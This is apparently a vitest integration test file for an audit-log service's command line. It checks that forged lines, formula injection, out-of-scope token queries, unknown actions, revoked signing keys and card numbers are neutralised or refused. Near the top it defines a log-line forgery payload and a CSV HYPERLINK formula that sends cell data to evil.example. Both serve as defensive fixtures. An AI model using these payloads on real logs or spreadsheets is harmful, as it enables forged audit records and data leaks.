/**
 * What must not get in, must not get out, or must not get far, over a running network and by the command line alone: a card
 * number, a forged line, a formula, a question beyond a scope, a key that was revoked.
 */
import { mkdir, readdir, readFile, writeFile } from 'node:fs/promises';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { readBundleZip } from '../../src/evidence/read-zip.ts';
import { openLevelStore } from '../../src/store/leveldb.ts';
import { type CliResult, cli, removeNetworks, startTestNetwork, type TestNetwork } from '../support/network.ts';

const PAN = '4111-1111-1111-1111';
const FORGED = 'ok"}\n{"index":999,"event":{"action":"role.grant","actor":{"id":"u_evil"}}}\r\n\u2028';
const FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"click")';

function event(id: string, changes: Readonly<Record<string, unknown>> = {}): object {
  return {
    event_id: id,
    occurred_at: new Date().toISOString(),
    actor: { type: 'user', id: 'u_1' },
    action: 'customer.view',
    target: { type: 'customer', id: 'cus_1' },
    outcome: { result: 'success' },
    ...changes,
  };
}

type Row = Readonly<Record<string, unknown>>;

describe('what people send and ask, and should not', () => {
  let network: TestNetwork;
  beforeAll(async () => {
    network = await startTestNetwork();
  }, 90_000);
  afterAll(removeNetworks);

  const submit = (...events: readonly object[]): Promise<CliResult> =>
    network.run(['submit', '-', '--json'], events.map((one) => `${JSON.stringify(one)}\n`).join(''));

  /** Entries of the log's own under an action, newest last. */
  async function ownEntries(action: string): Promise<readonly Row[]> {
    const { json } = await network.run(['search', `action:${action}`, '--all', '--json']);
    return (json()['events'] as { event: { fields: Record<string, { value: string }> } }[]).map(
      ({ event: { fields } }) =>
        Object.fromEntries(Object.entries(fields).map(([name, { value }]) => [name, JSON.parse(value)])),
    );
  }

  it('text that forges a line or a formula is one line and no formula, wherever it is shown', async () => {
    const { code, err } = await submit(
      event('forged', { reason: FORGED, details: FORMULA, context: { note: FORGED, cell: FORMULA } }),
      event('named', { actor: { type: 'user', id: FORMULA } }),
    );
    expect([code, err]).toEqual([0, '']);
    const table = await network.run(['search', 'action:customer.view']);
    expect(table.out.trimEnd().split('\n')).toHaveLength(3);
    expect(table.out).not.toContain('u_evil');

    const file = path.join(network.data, 'out.csv');
    expect((await network.run(['export', '--csv', 'action:customer.view', '--out', file])).code).toBe(0);
    const csv = await readFile(file, 'utf8');
    const rows = csv.trimEnd().split('\r\n');
    expect(rows).toHaveLength(4);
    expect(rows.some((row) => /[\r\n\u2028]/.test(row))).toBe(false);
    expect(csv).toContain(String.raw`ok""}\n{""index"":999`);
    expect(csv).toContain(`"'=HYPERLINK(`);
    expect(csv).not.toMatch(/(^|,)"?=/m);

    const lines = path.join(network.data, 'out.ndjson');
    expect((await network.run(['export', 'action:customer.view', '--out', lines])).code).toBe(0);
    const exported = (await readFile(lines, 'utf8'))
      .trimEnd()
      .split('\n')
      .map((line) => JSON.parse(line) as Row);
    expect(exported.map(({ index, complete }) => index ?? complete)).not.toContain(999);
    expect(Object(exported[0]?.['event']).reason).toBe(FORGED);

    const bundle = path.join(network.data, 'forged.zip');
    const told = await network.run(['evidence', 'action:customer.view', '--out', bundle]);
    expect(told.code, told.err).toBe(0);
    expect(told.out).toContain(String.raw`"ok"}\n{"index":999`);
    expect(told.out.split('\n').some((line) => line.startsWith('{"index"'))).toBe(false);
  }, 60_000);

  it('a question beyond the scope of a token is refused, and an entry says who asked what', async () => {
    const token = path.join(network.data, 'scoped.token');
    const scope = ['--action', 'role.grant', '--from', '2026-03-01', '--to', '2026-05-31'];
    const created = await network.run([
      'token',
      'create',
      'auditor',
      '--name',
      'SOX',
      ...scope,
      '--out',
      token,
      '--json',
    ]);
    const { id } = created.json();
    for (const question of ['action:customer.view', 'action:role.grant from:2026-06-01']) {
      const { code, err } = await network.run(['search', question, '--token-file', token]);
      expect([code, err]).toEqual([1, expect.stringContaining('403')]);
    }
    const evidence = ['evidence', 'target:cus_1', '--mode', 'complete', '--out', path.join(network.data, 'no.zip')];
    expect(await network.run([...evidence, '--token-file', token])).toMatchObject({ code: 1 });
    const within = await network.run(['search', 'action:role.grant', '--token-file', token, '--json']);
    expect(within.json()).toMatchObject({ events: [], complete: true, scope: { actions: ['role.grant'] } });

    const refused = (await ownEntries('countersign.access.refused')).filter(({ actor }) => Object(actor).id === id);
    expect(refused).toHaveLength(3);
    expect(refused[0]).toMatchObject({
      actor: { type: 'token', id, role: 'auditor' },
      outcome: { result: 'denied', code: 'out-of-scope' },
      context: { method: 'GET', question: 'action:customer.view' },
    });
    expect(JSON.stringify(refused[1])).toContain('action:role.grant from:2026-06-01');
    expect(refused[2]).toMatchObject({ outcome: { code: 'complete-needs-scope' }, context: { method: 'POST' } });
  });

  it('an action that no catalogue knows names them all, and its refusal is an entry with the class of what is known', async () => {
    expect((await network.run(['catalogue', 'publish', 'starter'])).err).toBe('');
    const own = path.join(network.data, 'own.yaml');
    await writeFile(
      own,
      'catalogue: ships\nversion: 1.0.0\ntitle: Ships\nclasses:\n  sea: { title: At sea, retention: soc2 }\n' +
        'actions:\n  ship.sail: { title: Set sail, class: sea, required: [reason] }\n',
    );
    expect((await network.run(['catalogue', 'publish', own])).err).toBe('');
    const { json } = await submit(event('unknown', { action: 'ship.sink' }), event('vague', { action: 'ship.sail' }));
    const [unknown, vague] = json()['refused'] as { errors: string[] }[];
    expect(unknown?.errors[0]).toContain('is in none of the catalogues starter 1.0.0, ships 1.0.0; there is ship.sail');
    expect(vague?.errors[0]).toContain('/reason');
    const [entry] = (await ownEntries('countersign.submission.refused')).slice(-1);
    const inputs = Object(entry?.['context']).inputs as Row[];
    expect(inputs.map(({ class: known }) => known)).toEqual([undefined, 'sea']);
    expect(JSON.stringify(entry)).not.toContain('ship.sail');

    const warned = await network.run(['catalogue', 'publish', 'cloudtrail']);
    expect(warned.err).toContain('warning: cloudtrail 1.0.0 has the pattern "*"');
    expect(warned.err).toContain('starter, ships');
  });

  it('a signed event goes in under its key, and no other after the key was revoked', async () => {
    const file = path.join(network.data, 'keys', 'billing.key');
    await mkdir(path.dirname(file), { recursive: true });
    const made = await cli(['keygen', 'ed25519', '--for', 'producer', '--name', 'billing', '--out', file]);
    const registered = await network.run(['producer-key', 'register', made.out.trim(), '--json']);
    expect(registered.code, registered.err).toBe(0);
    const id = String(registered.json()['id']);
    // The catalogue keeps `changes` of this action apart, which the signer is told.
    const change = event('signed', {
      action: 'billing.address.update',
      actor: { type: 'user', id: 'u_1', session: 's_1' },
      authorization: { decision: 'allow' },
      changes: [{ path: '/city', before: 'Bonn', after: 'Kiel' }],
      producer_seq: 1,
    });
    const sign = (one: object) => network.run(['submit', '-', '--sign', file, '--json'], JSON.stringify(one));
    const first = await sign(change);
    expect([first.code, first.err]).toEqual([0, '']);
    expect(first.json()).toMatchObject({ accepted: 1, refused: [] });
    expect((await sign(change)).json()).toMatchObject({ accepted: 0, duplicate: 1 });
    const found = await network.run(['search', `producer:${id}`, '--json']);
    expect(found.json()['events']).toHaveLength(1);

    expect((await network.run(['producer-key', 'revoke', id, '--reason', 'laptop lost'])).code).toBe(0);
    expect((await network.run(['producer-key', 'list'])).out).toMatch(new RegExp(`${id}.*revoked at index`));
    const late = await sign({ ...change, event_id: 'late' });
    expect([late.code, late.err]).toEqual([1, expect.stringContaining('revoked')]);
  });

  it('a card number is nowhere but its last four digits: not in answers, exports, bundles, logs or the database', async () => {
    const { code } = await submit(
      event('card', { reason: `paid with ${PAN}, thanks`, details: PAN.replaceAll('-', ' '), context: { [PAN]: PAN } }),
      event('entity', { reason: '4111&#45;1111&#45;1111&#45;1111' }),
      event('target', { target: { type: 'card', id: PAN } }),
    );
    expect(code).toBe(1);
    const seen: string[] = [network.said()];
    const tell = async (...args: readonly string[]): Promise<void> => {
      const { out, err } = await network.run(args);
      seen.push(out, err);
    };
    await tell('search', '--all', '--json');
    await tell('search', '--all');
    await tell('event', 'card');
    await tell('findings', '--json');
    for (const form of ['--csv', '--openings']) {
      const file = path.join(network.data, `all${form}`);
      await tell('export', form, '--out', file);
      seen.push(await readFile(file, 'utf8'));
    }
    const bundle = path.join(network.data, 'all.zip');
    await tell('evidence', '--out', bundle, '--show', '1000');
    for (const file of readBundleZip(await readFile(bundle)).values()) seen.push(new TextDecoder().decode(file));
    const { log } = await network.read();
    await network.stop();
    seen.push(network.said(), await everyRow(path.join(network.data, 'logs', log)));
    const [rows = ''] = seen.slice(-1);
    for (const text of [...seen, ...(await everyFile(network.data))]) {
      expect(text).not.toMatch(/4111[^0-9a-z]{0,8}1111/i);
      expect(text).not.toContain(Buffer.from(PAN).toString('base64').slice(0, 16));
    }
    // What looked nowhere would find nothing, either: the last four digits are there.
    expect(rows).toContain('[redacted:card-number:1111]');
    expect(seen.filter((text) => text.includes('[redacted:card-number:1111]')).length).toBeGreaterThan(6);
  }, 60_000);
});

/** Everything in the log's database, as text, decompressed by the database itself. */
async function everyRow(directory: string): Promise<string> {
  const store = await openLevelStore(path.join(directory, 'db'));
  let text = '';
  try {
    for (let gte = new Uint8Array(0); ; ) {
      const page = await store.range({ gte, lt: new Uint8Array(64).fill(255), limit: 1_000 });
      for (const { value } of page) text += Buffer.from(value).toString('latin1');
      const last = page.at(-1)?.key;
      if (last === undefined) return text;
      gte = new Uint8Array([...last, 0]);
    }
  } finally {
    await store.close();
  }
}

/** Every file of the network, as it lies on the disk. */
async function everyFile(directory: string): Promise<readonly string[]> {
  const entries = await readdir(directory, { withFileTypes: true, recursive: true });
  const files = entries.filter((entry) => entry.isFile()).map((entry) => path.join(entry.parentPath, entry.name));
  return Promise.all(files.map((file) => readFile(file, 'latin1')));
}
